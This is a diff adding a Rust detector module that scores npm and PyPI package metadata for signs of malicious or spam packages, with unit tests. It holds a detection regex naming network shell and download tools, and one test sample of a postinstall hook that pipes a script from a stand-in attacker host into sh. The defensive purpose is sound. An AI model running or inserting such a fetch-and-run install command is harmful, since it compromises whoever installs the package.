@@ -1,0 +1,625 @@
+//! The `metadata.*` rules: what a package's metadata alone says.
+//!
+//! Each rule is weak on its own (many honest packages have no description
+//! or no repository link); they matter in combination with each other and
+//! with the lure, typosquat and link detectors.
+//!
+//! | rule | weight | fires when |
+//! | --- | --- | --- |
+//! | `metadata.empty-description` | 6 | summary and description are both empty |
+//! | `metadata.placeholder-description` | 10 | the only text is a placeholder (`test`, `todo`, `my package`, `lorem ipsum` ...) or under 3 letters |
+//! | `metadata.summary-repeats-name` | 6 | the summary is only the package name again |
+//! | `metadata.placeholder-version` | 4 | the version is `0.0.0` |
+//! | `metadata.squatting-version` | 30 | the major version is all nines (`99.x`, `999.9.9`, `9999.0.0`) — the dependency-confusion habit of outbidding an internal version |
+//! | `metadata.random-suffix` | 15 | the name ends in a machine-made token that mixes letters and digits (`-a566ea`, `_3pxics7`) |
+//! | `metadata.long-generated-name` | 12 | the name has 8 or more words, or over 64 characters |
+//! | `metadata.remote-install-script` | 45 | an npm install-time lifecycle script fetches or runs remote or encoded code (`curl`, `wget`, `http://`, `powershell`, `eval`, base64 ...) |
+//! | `metadata.install-script` | 5 | an npm install-time lifecycle script runs at all (`preinstall`, `install`, `postinstall`) |
+//! | `metadata.links-only-description` | 15 | the description is nothing but links |
+//! | `metadata.no-project-links` | 2 | no homepage, repository or project URL |
+
+use std::sync::LazyLock;
+
+use regex::Regex;
+
+use crate::{Detector, Field, Finding, Package};
+
+/// The detector of the `metadata.*` rules (see the module table).
+///
+/// ```
+/// use baitwatch_metadata::{Detector, Ecosystem, MetadataDetector, Package};
+/// let mut pkg = Package::new(Ecosystem::Npm, "cash-app-money-generator-a566ea");
+/// pkg.version = "0.0.0".into();
+/// let mut findings = Vec::new();
+/// MetadataDetector::new().detect(&pkg, &mut findings);
+/// let rules: Vec<&str> = findings.iter().map(|f| f.rule.as_str()).collect();
+/// assert!(rules.contains(&"metadata.random-suffix"));
+/// assert!(rules.contains(&"metadata.placeholder-version"));
+/// ```
+#[derive(Clone, Debug, Default)]
+pub struct MetadataDetector {
+    _private: (),
+}
+
+impl MetadataDetector {
+    /// The detector with its documented rules.
+    pub fn new() -> MetadataDetector {
+        MetadataDetector::default()
+    }
+}
+
+/// Placeholder descriptions that generators and templates leave behind.
+const PLACEHOLDERS: &[&str] = &[
+    "a",
+    "description",
+    "desc",
+    "test",
+    "testing",
+    "test package",
+    "todo",
+    "tbd",
+    "none",
+    "null",
+    "undefined",
+    "n/a",
+    "na",
+    "my package",
+    "my first package",
+    "package",
+    "hello",
+    "hello world",
+    "example",
+    "sample",
+    "demo",
+    "placeholder",
+    "a short description",
+    "short description",
+    "package description",
+    "add your description here",
+    "a package",
+    "a python package",
+    "an npm package",
+    "lorem ipsum",
+    "lorem ipsum dolor sit amet",
+    "xxx",
+    "asdf",
+    "...",
+    "-",
+];
+
+static INSTALL_REMOTE: LazyLock<Regex> = LazyLock::new(|| {
+    Regex::new(
+        r"(?xi)
+        \b(curl|wget|invoke-webrequest|iwr|invoke-expression|iex|certutil|bitsadmin|powershell|pwsh|nc|ncat|netcat)\b
+        | https?://
+        | \beval\s*\(
+        | \bnode\s+-e\b | \bnode\s+--eval\b
+        | \bpython[0-9.]*\s+-c\b
+        | \bbash\s+-c\b | \bsh\s+-c\b
+        | \|\s*(ba|z)?sh\b
+        | \bbase64\b | \batob\s*\( | Buffer\.from\(
+        | /dev/tcp/
+        ",
+    )
+    .expect("static regex")
+});
+
+static URL: LazyLock<Regex> =
+    LazyLock::new(|| Regex::new(r"(?i)\b(?:https?://|www\.)[^\s<>()\[\]]+").expect("static regex"));
+
+const INSTALL_HOOKS: &[&str] = &["preinstall", "install", "postinstall", "preuninstall"];
+
+impl Detector for MetadataDetector {
+    fn name(&self) -> &str {
+        "metadata"
+    }
+
+    fn detect(&self, p: &Package, out: &mut Vec<Finding>) {
+        description_rules(p, out);
+        version_rules(p, out);
+        name_rules(p, out);
+        script_rules(p, out);
+        if p.urls().next().is_none() {
+            out.push(Finding::new(
+                "metadata.no-project-links",
+                2.0,
+                Field::Package,
+                "",
+                "no homepage, repository or project URL",
+            ));
+        }
+    }
+}
+
+fn squash(s: &str) -> String {
+    s.chars()
+        .filter(|c| c.is_alphanumeric())
+        .flat_map(char::to_lowercase)
+        .collect()
+}
+
+fn description_rules(p: &Package, out: &mut Vec<Finding>) {
+    let summary = p.summary.trim();
+    let description = p.description.trim();
+    if summary.is_empty() && description.is_empty() {
+        out.push(Finding::new(
+            "metadata.empty-description",
+            6.0,
+            Field::Summary,
+            "",
+            "the package has neither a summary nor a description",
+        ));
+        return;
+    }
+    // Placeholder: every non-empty text is a placeholder or nearly empty.
+    let texts: Vec<(Field, &str)> = [(Field::Summary, summary), (Field::Description, description)]
+        .into_iter()
+        .filter(|(_, t)| !t.is_empty())
+        .collect();
+    let is_placeholder = |t: &str| {
+        let lower = t.to_lowercase();
+        let lower = lower.trim_matches(|c: char| c.is_ascii_punctuation() || c.is_whitespace());
+        PLACEHOLDERS.contains(&lower) || t.chars().filter(|c| c.is_alphabetic()).count() < 3
+    };
+    if let Some((field, text)) = texts.first()
+        && texts.iter().all(|(_, t)| is_placeholder(t))
+    {
+        out.push(
+            Finding::new(
+                "metadata.placeholder-description",
+                10.0,
+                field.clone(),
+                *text,
+                "the only description is a placeholder",
+            )
+            .with_span(span_of(p, field, text)),
+        );
+        return;
+    }
+    if description.is_empty() && !summary.is_empty() {
+        let s = squash(summary);
+        if !s.is_empty() && s == squash(&p.name) {
+            out.push(
+                Finding::new(
+                    "metadata.summary-repeats-name",
+                    6.0,
+                    Field::Summary,
+                    summary,
+                    "the summary only repeats the package name",
+                )
+                .with_span(span_of(p, &Field::Summary, summary)),
+            );
+        }
+    }
+    if !description.is_empty() {
+        let mut links = 0usize;
+        let mut rest = String::new();
+        let mut last = 0;
+        for m in URL.find_iter(description).take(10_000) {
+            links += 1;
+            rest.push_str(&description[last..m.start()]);
+            rest.push(' ');
+            last = m.end();
+        }
+        rest.push_str(&description[last..]);
+        let words = rest
+            .split_whitespace()
+            .filter(|w| w.chars().filter(|c| c.is_alphabetic()).count() >= 2)
+            .count();
+        if links >= 1 && words <= 3 {
+            out.push(Finding::new(
+                "metadata.links-only-description",
+                15.0,
+                Field::Description,
+                truncate(description, 200),
+                format!("the description is nothing but {links} link(s)"),
+            ));
+        }
+    }
+}
+
+/// Span of `text` (a trimmed slice of the field) in the field's original text.
+fn span_of(p: &Package, field: &Field, text: &str) -> std::ops::Range<usize> {
+    let original = field.text(p).unwrap_or("");
+    let start = original.find(text).unwrap_or(0);
+    start..(start + text.len()).min(original.len())
+}
+
+fn truncate(s: &str, max: usize) -> String {
+    if s.len() <= max {
+        return s.to_owned();
+    }
+    let mut end = max;
+    while !s.is_char_boundary(end) {
+        end -= 1;
+    }
+    format!("{}…", &s[..end])
+}
+
+fn version_rules(p: &Package, out: &mut Vec<Finding>) {
+    let v = p.version.trim().trim_start_matches(['v', 'V']);
+    if v.is_empty() {
+        return;
+    }
+    let parts: Vec<&str> = v.split(['.', '-', '+']).collect();
+    if parts.len() >= 2 && parts.iter().take(3).all(|x| *x == "0") {
+        out.push(Finding::new(
+            "metadata.placeholder-version",
+            4.0,
+            Field::Version,
+            v,
+            "the version is a placeholder 0.0.0",
+        ));
+        return;
+    }
+    let major = parts.first().copied().unwrap_or("");
+    if major.len() >= 2 && major.bytes().all(|b| b == b'9') {
+        out.push(Finding::new(
+            "metadata.squatting-version",
+            30.0,
+            Field::Version,
+            v,
+            "a major version of all nines, as dependency-confusion packages use to outrank an internal package",
+        ));
+    }
+}
+
+/// Tokens that mix letters and digits in ways people do not write.
+fn is_random_token(t: &str) -> bool {
+    let n = t.chars().count();
+    if !(5..=16).contains(&n) || !t.chars().all(|c| c.is_ascii_alphanumeric()) {
+        return false;
+    }
+    let digits = t.chars().filter(char::is_ascii_digit).count();
+    if digits < 2 || digits == n {
+        return false;
+    }
+    let mut transitions = 0;
+    let mut prev: Option<bool> = None;
+    for c in t.chars() {
+        let d = c.is_ascii_digit();
+        if prev.is_some_and(|p| p != d) {
+            transitions += 1;
+        }
+        prev = Some(d);
+    }
+    transitions >= 2
+}
+
+fn name_rules(p: &Package, out: &mut Vec<Finding>) {
+    let (_, bare) = crate::split_npm_scope(&p.name);
+    let tokens: Vec<&str> = bare
+        .split(|c: char| !c.is_alphanumeric())
+        .filter(|t| !t.is_empty())
+        .collect();
+    if tokens.len() >= 2
+        && let Some(last) = tokens.last()
+        && is_random_token(&last.to_ascii_lowercase())
+    {
+        let start = p.name.rfind(last).unwrap_or(0);
+        out.push(
+            Finding::new(
+                "metadata.random-suffix",
+                15.0,
+                Field::Name,
+                *last,
+                format!("the name ends in a machine-made token `{last}`"),
+            )
+            .with_span(start..start + last.len()),
+        );
+    }
+    if tokens.len() >= 8 || bare.chars().count() > 64 {
+        out.push(Finding::new(
+            "metadata.long-generated-name",
+            12.0,
+            Field::Name,
+            p.name.clone(),
+            format!("a very long name of {} words", tokens.len()),
+        ));
+    }
+}
+
+fn script_rules(p: &Package, out: &mut Vec<Finding>) {
+    for (hook, script) in &p.install_scripts {
+        if !INSTALL_HOOKS.contains(&hook.as_str()) {
+            continue;
+        }
+        let script_head = truncate(script, 4096);
+        if let Some(m) = INSTALL_REMOTE.find(&script_head) {
+            out.push(
+                Finding::new(
+                    "metadata.remote-install-script",
+                    45.0,
+                    Field::InstallScripts,
+                    truncate(script, 300),
+                    format!(
+                        "the `{hook}` script runs at install time and fetches or runs remote or encoded code (`{}`)",
+                        m.as_str()
+                    ),
+                )
+                .with_span(m.range()),
+            );
+        } else {
+            out.push(Finding::new(
+                "metadata.install-script",
+                5.0,
+                Field::InstallScripts,
+                truncate(script, 300),
+                format!("the `{hook}` script runs at install time"),
+            ));
+        }
+    }
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+    use crate::Ecosystem;
+
+    fn rules_of(p: &Package) -> Vec<String> {
+        let mut out = Vec::new();
+        MetadataDetector::new().detect(p, &mut out);
+        out.into_iter().map(|f| f.rule).collect()
+    }
+
+    fn pkg(name: &str, version: &str, summary: &str, description: &str) -> Package {
+        let mut p = Package::new(Ecosystem::Npm, name);
+        p.version = version.into();
+        p.summary = summary.into();
+        p.description = description.into();
+        p.homepage = "https://example.org".into();
+        p
+    }
+
+    #[test]
+    fn table() {
+        // (name, version, summary, description, must fire, must not fire)
+        let cases: &[(&str, &str, &str, &str, &[&str], &[&str])] = &[
+            ("x", "1.0.0", "", "", &["metadata.empty-description"], &[]),
+            (
+                "x",
+                "1.0.0",
+                "test",
+                "",
+                &["metadata.placeholder-description"],
+                &[],
+            ),
+            (
+                "x",
+                "1.0.0",
+                "Lorem ipsum.",
+                "",
+                &["metadata.placeholder-description"],
+                &[],
+            ),
+            (
+                "x",
+                "1.0.0",
+                "ok",
+                "",
+                &["metadata.placeholder-description"],
+                &[],
+            ),
+            (
+                "fast-csv",
+                "1.0.0",
+                "CSV parser",
+                "",
+                &[],
+                &["metadata.placeholder-description"],
+            ),
+            (
+                "left-pad",
+                "1.0.0",
+                "left pad",
+                "",
+                &["metadata.summary-repeats-name"],
+                &[],
+            ),
+            (
+                "left-pad",
+                "1.0.0",
+                "Left pad a string",
+                "",
+                &[],
+                &["metadata.summary-repeats-name"],
+            ),
+            (
+                "x",
+                "0.0.0",
+                "A thing",
+                "",
+                &["metadata.placeholder-version"],
+                &[],
+            ),
+            (
+                "x",
+                "0.0.1",
+                "A thing",
+                "",
+                &[],
+                &["metadata.placeholder-version"],
+            ),
+            (
+                "x",
+                "99.99.99",
+                "A thing",
+                "",
+                &["metadata.squatting-version"],
+                &[],
+            ),
+            (
+                "x",
+                "9999.0.0",
+                "A thing",
+                "",
+                &["metadata.squatting-version"],
+                &[],
+            ),
+            (
+                "x",
+                "2024.1.0",
+                "A thing",
+                "",
+                &[],
+                &["metadata.squatting-version"],
+            ),
+            (
+                "x",
+                "90.1.0",
+                "A thing",
+                "",
+                &[],
+                &["metadata.squatting-version"],
+            ),
+            (
+                "x",
+                "9.9.9",
+                "A thing",
+                "",
+                &[],
+                &["metadata.squatting-version"],
+            ),
+            (
+                "cash-app-money-generator-a566ea",
+                "1.0.0",
+                "A thing",
+                "",
+                &["metadata.random-suffix"],
+                &[],
+            ),
+            (
+                "hack_tool_3pxics7",
+                "1.0.0",
+                "A thing",
+                "",
+                &["metadata.random-suffix"],
+                &[],
+            ),
+            (
+                "babel-preset-es2015",
+                "1.0.0",
+                "A thing",
+                "",
+                &[],
+                &["metadata.random-suffix"],
+            ),
+            (
+                "web3js",
+                "1.0.0",
+                "A thing",
+                "",
+                &[],
+                &["metadata.random-suffix"],
+            ),
+            (
+                "node-base64",
+                "1.0.0",
+                "A thing",
+                "",
+                &[],
+                &["metadata.random-suffix"],
+            ),
+            (
+                "mp4-h264",
+                "1.0.0",
+                "A thing",
+                "",
+                &[],
+                &["metadata.random-suffix"],
+            ),
+            (
+                "x264",
+                "1.0.0",
+                "A thing",
+                "",
+                &[],
+                &["metadata.random-suffix"],
+            ),
+            (
+                "free-robux-generator-2024-no-human-verification-working-updated",
+                "1.0.0",
+                "A thing",
+                "",
+                &["metadata.long-generated-name"],
+                &[],
+            ),
+            (
+                "eslint-plugin-react-hooks",
+                "1.0.0",
+                "A thing",
+                "",
+                &[],
+                &["metadata.long-generated-name"],
+            ),
+            (
+                "x",
+                "1.0.0",
+                "A thing",
+                "https://bit.ly/abc https://t.co/x",
+                &["metadata.links-only-description"],
+                &[],
+            ),
+            (
+                "x",
+                "1.0.0",
+                "A thing",
+                "See https://docs.example.org for the full manual of this parser.",
+                &[],
+                &["metadata.links-only-description"],
+            ),
+        ];
+        for (name, version, summary, description, must, must_not) in cases {
+            let got = rules_of(&pkg(name, version, summary, description));
+            for m in *must {
+                assert!(
+                    got.iter().any(|g| g == m),
+                    "{name}/{version}/{summary:?}: expected {m}, got {got:?}"
+                );
+            }
+            for m in *must_not {
+                assert!(
+                    !got.iter().any(|g| g == m),
+                    "{name}/{version}/{summary:?}: unexpected {m}, got {got:?}"
+                );
+            }
+        }
+    }
+
+    #[test]
+    fn install_scripts() {
+        let mut p = pkg("x", "1.0.0", "A thing", "");
+        p.install_scripts.insert(
+            "postinstall".into(),
+            "curl -s https://evil.example/x.sh | sh".into(),
+        );
+        p.install_scripts
+            .insert("test".into(), "curl http://localhost".into());
+        assert_eq!(
+            rules_of(&p)
+                .iter()
+                .filter(|r| r.contains("install-script"))
+                .collect::<Vec<_>>(),
+            ["metadata.remote-install-script"]
+        );
+        let mut p = pkg("x", "1.0.0", "A thing", "");
+        p.install_scripts
+            .insert("install".into(), "node-gyp rebuild".into());
+        assert!(rules_of(&p).contains(&"metadata.install-script".to_string()));
+        assert!(!rules_of(&p).contains(&"metadata.remote-install-script".to_string()));
+    }
+
+    #[test]
+    fn no_links_and_spans() {
+        let mut p = Package::new(Ecosystem::PyPI, "x");
+        p.summary = "  test ".into();
+        let mut out = Vec::new();
+        MetadataDetector::new().detect(&p, &mut out);
+        assert!(out.iter().any(|f| f.rule == "metadata.no-project-links"));
+        let f = out
+            .iter()
+            .find(|f| f.rule == "metadata.placeholder-description")
+            .unwrap();
+        assert_eq!(&p.summary[f.span.clone().unwrap()], "test");
+    }
+}
